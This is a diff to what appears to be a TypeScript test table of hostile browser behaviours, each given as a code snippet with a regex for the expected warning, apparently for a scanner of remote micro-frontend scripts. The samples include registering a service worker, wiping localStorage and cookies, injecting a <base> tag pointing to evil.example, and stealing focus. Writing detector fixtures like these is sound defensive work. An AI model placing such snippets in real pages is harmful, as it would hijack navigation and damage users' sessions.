@@ -81,8 +81,8 @@ const behaviours: [what: string, code: string, line: RegExp][] = [
   ],
   [
     'registers a service worker',
-    `navigator.serviceWorker.register(document.currentScript?.src||'/remotes/x.js').catch(()=>{})`,
-    /service worker|ServiceWorker|Content Security Policy|worker/i,
+    `navigator.serviceWorker.register('/remotes/mf_account/2.0.0-hostil19/lifecycles.js').catch(()=>{})`,
+    /worker-src|service worker/,
   ],
   ['wipes the storage', `localStorage.clear()`, /local storage/],
   ['wipes the cookies', `document.cookie='browse_page_size=;path=/;max-age=0'`, /deletes the shop's cookies/],
@@ -90,11 +90,6 @@ const behaviours: [what: string, code: string, line: RegExp][] = [
     'moves the page by a base',
     `const b=document.createElement('base');b.href='https://evil.example/';document.head.append(b)`,
     /Content Security Policy|evil/,
-  ],
-  [
-    'keeps robots out',
-    later(`const m=document.createElement('meta');m.name='robots';m.content='noindex';document.head.append(m)`),
-    /search engines/,
   ],
   ['takes the title away', later(`setInterval(()=>{document.title=''},10)`), /title/],
   ['steals the focus', later(`setInterval(()=>document.querySelector('footer a').focus(),20)`), /taking the focus/],
